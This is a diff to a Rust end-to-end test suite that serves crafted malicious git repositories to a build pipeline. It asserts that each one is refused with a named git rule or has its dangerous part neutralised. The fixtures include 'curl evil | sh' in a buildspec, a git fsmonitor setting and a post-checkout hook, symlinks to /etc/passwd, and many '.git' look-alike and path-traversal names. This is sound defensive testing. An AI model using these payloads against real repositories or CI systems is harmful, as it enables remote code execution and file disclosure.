@@ -1,8 +1,10 @@
 //! Hostile repositories, each built object by object (raw trees, so that names git's own
 //! tools refuse can be made), served over smart HTTP and put through the whole work stage:
 //! fetch, buildspec, archive, store, start. Each ends safely with a clear outcome: built
-//! with the dangerous part neutralised (links stored as links, never followed; `.git`
-//! entries and submodules left out), or refused with a reason that says why.
+//! with the dangerous part neutralised (links stored as links, never followed; submodules
+//! left out), or refused with a reason that says why (a name git refuses — `..`, `a/b` in one
+//! name, `.git` and its look-alikes — is refused with its path). The archives built are then
+//! unpacked by several extractors (`hostile_trees`), each checked on disk.
 //!
 //! `cargo test -p e2e-tests --test e2e hostile -- --nocapture` prints the table that
 //! docs/reliability.md shows.
@@ -21,8 +23,10 @@ use e2e_tests::temp_dir;
 
 const BUILDSPEC: &[u8] = b"version: 0.2\nphases:\n  build:\n    commands: [make]\n";
 
-/// A tree entry: mode, name bytes, object.
-enum Node {
+/// A tree entry's object (and mode), written raw: any name, any mode (the generated trees
+/// of `hostile_trees` use these too).
+#[derive(Debug, Clone)]
+pub(crate) enum Node {
     Blob(Vec<u8>),
     /// A blob of `len` zero bytes, streamed into the object database.
     Zeros(usize),
@@ -31,11 +35,21 @@ enum Node {
     Submodule,
     /// A link whose target is this many zero bytes.
     ZerosLink(usize),
+    /// `object` under a mode of one's choosing (the octal text as written in the tree:
+    /// `100600`, `040000`, or a file mode for a tree).
+    Raw {
+        mode: String,
+        object: Box<Node>,
+    },
 }
 
+/// A folder's entries: name bytes and what they hold.
+pub(crate) type Entries = Vec<(Vec<u8>, Node)>;
+
 /// Writes `node` as raw objects; returns (mode, id).
-fn write(odb: &git2::Odb, node: &Node) -> (&'static str, git2::Oid) {
-    match node {
+pub(crate) fn write(odb: &git2::Odb, node: &Node) -> (String, git2::Oid) {
+    let (mode, oid) = match node {
+        Node::Raw { mode, object } => return (mode.clone(), write(odb, object).1),
         Node::Blob(content) => ("100644", odb.write(git2::ObjectType::Blob, content).expect("blob")),
         Node::Zeros(len) => {
             let mut writer = odb.writer(*len, git2::ObjectType::Blob).expect("writer");
@@ -52,7 +66,7 @@ fn write(odb: &git2::Odb, node: &Node) -> (&'static str, git2::Oid) {
         Node::Link(target) => ("120000", odb.write(git2::ObjectType::Blob, target.as_bytes()).expect("link")),
         Node::Submodule => ("160000", git2::Oid::from_str("0123456789abcdef0123456789abcdef01234567").expect("oid")),
         Node::Dir(entries) => {
-            let mut written: Vec<(Vec<u8>, &str, git2::Oid)> = entries
+            let mut written: Vec<(Vec<u8>, String, git2::Oid)> = entries
                 .iter()
                 .map(|(name, node)| (name.clone(), write(odb, node)))
                 .map(|(n, (m, o))| (n, m, o))
@@ -65,7 +79,7 @@ fn write(odb: &git2::Odb, node: &Node) -> (&'static str, git2::Oid) {
                 }
                 k
             };
-            written.sort_by_key(|entry| key(&entry.0, entry.1));
+            written.sort_by_key(|entry| key(&entry.0, &entry.1));
             let mut raw = Vec::new();
             for (name, mode, oid) in written {
                 raw.extend_from_slice(mode.as_bytes());
@@ -76,27 +90,33 @@ fn write(odb: &git2::Odb, node: &Node) -> (&'static str, git2::Oid) {
             }
             ("40000", odb.write(git2::ObjectType::Tree, &raw).expect("tree"))
         }
-    }
+    };
+    (mode.to_owned(), oid)
+}
+
+/// Writes `entries` as a tree and a commit of it in `repo`; returns the commit.
+pub(crate) fn commit_entries(repo: &git2::Repository, message: &str, entries: Entries) -> git2::Oid {
+    let odb = repo.odb().expect("odb");
+    let (_, tree) = write(&odb, &Node::Dir(entries));
+    let commit = format!(
+        "tree {tree}\nauthor Mallory <m@example.org> 1700000000 +0000\ncommitter Mallory <m@example.org> 1700000000 +0000\n\n{message}\n"
+    );
+    odb.write(git2::ObjectType::Commit, commit.as_bytes()).expect("commit")
 }
 
 /// `<root>/<name>.git`: one commit on `main` (its HEAD) holding `entries`; returns the commit.
-fn hostile_repo(root: &Path, name: &str, entries: Vec<(Vec<u8>, Node)>) -> String {
+fn hostile_repo(root: &Path, name: &str, entries: Entries) -> String {
     let repo = git2::Repository::init_bare(root.join(format!("{name}.git"))).expect("init");
     // git ≥ 2.43 refuses to pack trees deeper than 4096 by default; this server must serve
     // the deep one, so that the bridge's own handling is what is tested.
     repo.config().and_then(|mut c| c.set_i64("core.maxTreeDepth", 100_000)).expect("config");
-    let odb = repo.odb().expect("odb");
-    let (_, tree) = write(&odb, &Node::Dir(entries));
-    let commit = format!(
-        "tree {tree}\nauthor Mallory <m@example.org> 1700000000 +0000\ncommitter Mallory <m@example.org> 1700000000 +0000\n\n{name}\n"
-    );
-    let commit = odb.write(git2::ObjectType::Commit, commit.as_bytes()).expect("commit");
+    let commit = commit_entries(&repo, name, entries);
     repo.reference("refs/heads/main", commit, true, "hostile").expect("branch");
     repo.set_head("refs/heads/main").expect("HEAD");
     commit.to_string()
 }
 
-fn with_buildspec(mut entries: Vec<(Vec<u8>, Node)>) -> Vec<(Vec<u8>, Node)> {
+fn with_buildspec(mut entries: Entries) -> Entries {
     entries.push((b"buildspec.yml".to_vec(), Node::Blob(BUILDSPEC.to_vec())));
     entries
 }
@@ -116,11 +136,13 @@ fn deep(depth: usize) -> Node {
 
 struct Case {
     name: &'static str,
-    entries: Vec<(Vec<u8>, Node)>,
+    entries: Entries,
 }
 
+const PR_SPEC: &[u8] = b"version: 0.2\nphases:\n  build:\n    commands: ['curl evil | sh']\n";
+
 fn cases() -> Vec<Case> {
-    vec![
+    let mut cases = vec![
         Case {
             name: "links-out",
             entries: with_buildspec(vec![
@@ -178,8 +200,56 @@ fn cases() -> Vec<Case> {
         },
         Case { name: "buildspec-is-a-link", entries: vec![(name("buildspec.yml"), Node::Link("/etc/passwd"))] },
         Case { name: "huge-link", entries: with_buildspec(vec![(name("link"), Node::ZerosLink(8 << 20))]) },
-    ]
+    ];
+    // The names and git's other look-alikes, each in a repository of its own.
+    let evil = || Node::Blob(PR_SPEC.to_vec());
+    let repository = |files: Entries| Node::Dir(files);
+    let git_config = || (name("config"), Node::Blob(b"[core]\n\tfsmonitor = curl evil | sh\n".to_vec()));
+    let hook = || {
+        let script =
+            Node::Raw { mode: "100755".into(), object: Box::new(Node::Blob(b"#!/bin/sh\ncurl evil | sh\n".to_vec())) };
+        (name("hooks"), Node::Dir(vec![(name("post-checkout"), script)]))
+    };
+    let named: Vec<(&'static str, Entries)> = vec![
+        ("slash-in-name", vec![(name("zz/../buildspec.yml"), evil())]),
+        ("dotdot-folder", vec![(name(".."), Node::Dir(vec![(name("buildspec.yml"), evil())]))]),
+        ("nested-dotgit", vec![(name("a"), Node::Dir(vec![(name(".git"), repository(vec![git_config(), hook()]))]))]),
+        ("absolute-name", vec![(name("/abs-path.txt"), evil())]),
+        ("dotdot-name", vec![(name(".."), evil())]),
+        ("dotgit-upper-dots", vec![(name(".GIT. ."), repository(vec![git_config()]))]),
+        ("dotgit-short-name", vec![(name("git~1"), repository(vec![git_config(), hook()]))]),
+        ("dotgit-stream", vec![(name(".git::$INDEX_ALLOCATION"), repository(vec![git_config()]))]),
+        ("dotgit-hfs", vec![(name("d"), Node::Dir(vec![(name(".g\u{200c}it"), repository(vec![hook()]))]))]),
+        ("duplicate-names", vec![(name("src"), evil()), (name("src"), Node::Dir(vec![(name("x"), evil())]))]),
+        ("gitmodules-link", vec![(name(".gitmodules"), Node::Link("/etc/passwd"))]),
+        ("backslash-name", vec![(name("..\\buildspec.yml"), evil())]),
+        ("drive-letter", vec![(name("c:buildspec.yml"), evil())]),
+        ("control-character", vec![(name("buildspec.yml\u{7}"), evil())]),
+    ];
+    cases.extend(named.into_iter().map(|(name, entries)| Case { name, entries: with_buildspec(entries) }));
+    cases
 }
+
+/// The cases refused for a name: (case, the path the flag names, the rule it cites).
+const REFUSED_NAMES: &[(&str, &str, &str)] = &[
+    ("git-tricks", ".GIT", "hasDotgit"),
+    // Info-ZIP drops control characters: `buildspec.yml\u{7}` would land on the injected file.
+    ("odd-names", "bell\u{7}and\u{1b}[31mred", "control character"),
+    ("slash-in-name", "zz/../buildspec.yml", "fullPathname"),
+    ("dotdot-folder", "..", "hasDotdot"),
+    ("nested-dotgit", "a/.git", "hasDotgit"),
+    ("absolute-name", "/abs-path.txt", "fullPathname"),
+    ("dotdot-name", "..", "hasDotdot"),
+    ("dotgit-upper-dots", ".GIT. .", "hasDotgit"),
+    ("dotgit-short-name", "git~1", "hasDotgit"),
+    ("dotgit-stream", ".git::$INDEX_ALLOCATION", "hasDotgit"),
+    ("dotgit-hfs", "d/.g\u{200c}it", "hasDotgit"),
+    ("duplicate-names", "src", "duplicateEntries"),
+    ("gitmodules-link", ".gitmodules", "gitmodulesSymlink"),
+    ("backslash-name", "..\\buildspec.yml", "separator"),
+    ("drive-letter", "c:buildspec.yml", "drive letter"),
+    ("control-character", "buildspec.yml\u{7}", "control character"),
+];
 
 fn config(git: &str, artifacts: &Path) -> LocalConfig {
     let mut text = format!("[secrets]\nfile = \"unused.json\"\n[work]\nartifacts_dir = \"{}\"\n", artifacts.display());
@@ -240,6 +310,8 @@ async fn hostile_repositories_end_safely_with_a_clear_outcome() {
     );
 
     let mut table = String::from("| repository | outcome | detail |\n|---|---|---|\n");
+    // The archives built: (case, zip, the injected buildspec as archived).
+    let mut extracted = Vec::new();
     for case in cases() {
         let repo = server.url(&format!("{}.git", case.name));
         let request = crate::local_pipeline::build_request(&config, case.name, &commits[case.name], repo, "main", None);
@@ -256,21 +328,15 @@ async fn hostile_repositories_end_safely_with_a_clear_outcome() {
                     assert_eq!(content, target.as_bytes(), "{link}: the link's target, not what it points at");
                 }
                 assert_eq!(entries["README"].0, b"hello\n");
+                extracted.push((case.name, zip.clone(), entries["buildspec.yml"].0.clone()));
                 "4 links out of the tree stored as links (target text only); nothing outside read".to_owned()
             }
-            ("git-tricks", Disposition::Done(Ending::Started { .. })) => {
-                let entries = unzip(&zip);
-                let names: Vec<&String> = entries.keys().collect();
-                assert!(!names.iter().any(|n| n.split('/').any(|part| part.eq_ignore_ascii_case(".git"))), "{names:?}");
-                assert!(entries.contains_key("sub/kept.txt") && entries.contains_key(".gitignore"), "{names:?}");
-                "`.git` file, `.GIT/`, `sub/.git/` left out; `.gitignore`, `sub/kept.txt` kept".to_owned()
-            }
-            ("odd-names", Disposition::Done(Ending::Started { .. })) => {
-                let entries = unzip(&zip);
-                for odd in ["new\nline", "bell\u{7}and\u{1b}[31mred", "tab\there"] {
-                    assert!(entries.contains_key(odd), "{odd:?} kept byte for byte: {:?}", entries.keys());
-                }
-                "newline, control and escape characters kept byte for byte (logs are JSON-escaped)".to_owned()
+            (name, Disposition::Done(Ending::Failed { reason, .. }))
+                if let Some((_, path, rule)) = REFUSED_NAMES.iter().find(|(case, _, _)| *case == name) =>
+            {
+                assert!(reason.contains(&format!("the tree entry {path:?} is refused")), "{name}: {reason}");
+                assert!(reason.contains(rule), "{name}: {reason}");
+                reason.clone()
             }
             ("non-utf8-name", Disposition::Done(Ending::Failed { reason, .. })) => {
                 assert!(reason.contains("not UTF-8"), "{reason}");
@@ -289,6 +355,7 @@ async fn hostile_repositories_end_safely_with_a_clear_outcome() {
             ("submodule", Disposition::Done(Ending::Started { .. })) => {
                 let entries = unzip(&zip);
                 assert!(!entries.contains_key("vendor") && !entries.contains_key("vendor/"), "{:?}", entries.keys());
+                extracted.push((case.name, zip.clone(), entries["buildspec.yml"].0.clone()));
                 "the submodule entry is left out (never fetched); `.gitmodules` kept as a file".to_owned()
             }
             ("buildspec-is-a-link", Disposition::Done(Ending::Failed { reason, .. })) => {
@@ -309,5 +376,25 @@ async fn hostile_repositories_end_safely_with_a_clear_outcome() {
         table.push_str(&format!("| {} | {outcome} | {} |\n", case.name, detail.replace('\n', " ").replace('|', "\\|")));
     }
     println!("{table}");
-    assert_eq!(pipeline.runs().len(), 4, "the four safe repositories were built, nothing else");
+    assert_eq!(pipeline.runs().len(), 2, "the two safe repositories were built, nothing else");
+    // What CodeBuild would unpack, unpacked by several extractors: nothing lands outside the
+    // folder or through a link, no `.git`, the buildspec is the injected one.
+    let extractors = crate::hostile_trees::extractors();
+    let mut unpacked = format!(
+        "| built archive | {} |\n|---|{}\n",
+        extractors.iter().map(|e| e.name).collect::<Vec<_>>().join(" | "),
+        "---|".repeat(extractors.len())
+    );
+    for (name, zip, injected) in &extracted {
+        assert!(
+            injected.windows(b"PAGURE_COMMIT".len()).any(|w| w == b"PAGURE_COMMIT") && injected.as_slice() != BUILDSPEC,
+            "{name}: the archived buildspec is the injected one"
+        );
+        let notes: Vec<String> = extractors
+            .iter()
+            .map(|e| crate::hostile_trees::extract_and_check(e, zip, "buildspec.yml", injected))
+            .collect();
+        unpacked.push_str(&format!("| {name} | {} |\n", notes.join(" | ")));
+    }
+    println!("{unpacked}");
 }
